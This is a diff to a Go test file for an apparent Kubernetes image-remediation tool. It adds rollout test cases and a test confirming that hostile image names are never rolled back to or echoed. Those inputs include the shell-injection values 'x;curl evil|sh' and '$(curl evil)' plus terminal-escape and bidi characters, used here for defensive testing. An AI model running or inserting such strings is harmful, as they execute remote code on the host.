@@ -258,6 +258,45 @@ func TestWrongImages(t *testing.T) {
 			want: []string{"handed-over debug-again: Add a debugging container with " + good},
 		},
 		{
+			name: "a StatefulSet that was set right waits for a pod of the revision before",
+			k: remedy.Case{
+				Target: target("StatefulSet", template(good), revision(template(wrong), 0), revision(template(sidecar), 0)),
+				Pods:   []*corev1.Pod{failing}, Diagnoses: []diagnosis.Diagnosis{wrongTag},
+			},
+			want: []string{
+				"applied follow-template: Have the failing pods made anew from the template as it is now | evict",
+				"applied set-image: Set container app to an image that exists [--to IMAGE]",
+			},
+			because: "the template has " + good + " already",
+		},
+		{
+			name: "a Deployment that was set right needs no help, and does not go back",
+			k: remedy.Case{
+				Target: target("Deployment", template(good), revision(template(wrong), 0), revision(template(sidecar), 0)),
+				Pods:   []*corev1.Pod{failing}, Diagnoses: []diagnosis.Diagnosis{wrongTag},
+			},
+			want: []string{"applied set-image: Set container app to an image that exists [--to IMAGE]"},
+		},
+		{
+			name: "a CronJob that was set right still has a run that hangs",
+			k:    remedy.Case{Target: target("CronJob", template(good)), Pods: []*corev1.Pod{failing}, Diagnoses: []diagnosis.Diagnosis{wrongTag}},
+			want: []string{
+				"applied follow-template: Set container app to " + good + " in the run that hangs | pod/api-new /spec/containers/0/image=" + good,
+				"applied set-image: Set container app to an image that exists [--to IMAGE]",
+			},
+		},
+		{
+			name: "an image that a webhook wrote into the pod is not taken for an earlier template",
+			k: remedy.Case{
+				Target: target("Deployment", template("acme/app:1.27.44"), revision(template(good), 0)),
+				Pods:   []*corev1.Pod{failing}, Diagnoses: []diagnosis.Diagnosis{wrongTag},
+			},
+			want: []string{
+				"applied previous-image: Set container app back to " + good + " | deployment/api " + at + good,
+				"applied set-image: Set container app to an image that exists [--to IMAGE]",
+			},
+		},
+		{
 			name: "a paused rollout is said",
 			k: remedy.Case{Target: func() remedy.Target {
 				x := target("Deployment", template(wrong))
@@ -277,6 +316,11 @@ func TestWrongImages(t *testing.T) {
 			if len(c.want) == 0 && slices.ContainsFunc(all, remedy.Remedy.Ready) {
 				t.Fatalf("got %s, want nothing", strings.Join(got, "\n"))
 			}
+			for i, line := range got {
+				if slices.Contains(got[:i], line) {
+					t.Errorf("twice: %s", line)
+				}
+			}
 			if len(got) < len(c.want) || !slices.Equal(got[:len(c.want)], c.want) {
 				t.Fatalf("got\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(c.want, "\n"))
 			}
@@ -288,6 +332,34 @@ func TestWrongImages(t *testing.T) {
 			}
 		})
 	}
+}
+
+// A revision's image is what somebody typed: what no kubelet can parse never ran,
+// and is not gone back to.
+func TestNoRevisionWithAHostileImageIsGoneBackTo(t *testing.T) {
+	for _, image := range []string{"x;curl evil|sh", "$(curl evil)", "acme/App:1", "a\x1b[2Jb", "registry.example/acme/app:1\u202e"} {
+		k := remedy.Case{Target: target("Deployment", template(wrong), revision(template(image), 3)), Diagnoses: []diagnosis.Diagnosis{diagnose(t, catalog.TagNotFound, "", "app", wrong)}}
+		for _, r := range plan(t, k, remedy.Options{}) {
+			if r.Ready() {
+				t.Errorf("%q: %s", image, told(r))
+			}
+		}
+		k.Diagnoses[0].Pull.Image = shownAs(image)
+		k.Target = target("Pod", template(image))
+		for _, o := range []remedy.Options{{To: good}, {Recreate: true}} {
+			for _, r := range plan(t, k, o) {
+				for _, s := range slices.Concat([]string{r.Title, r.Because, r.Needs}, r.Risks) {
+					if strings.ContainsAny(s, "\x1b\u202e") {
+						t.Errorf("%s says %q", r.ID, s)
+					}
+				}
+			}
+		}
+	}
+}
+
+func shownAs(image string) string {
+	return strings.NewReplacer("\x1b", "", "\u202e", "").Replace(image)
 }
 
 // What is foreseen is the pod as it will be.
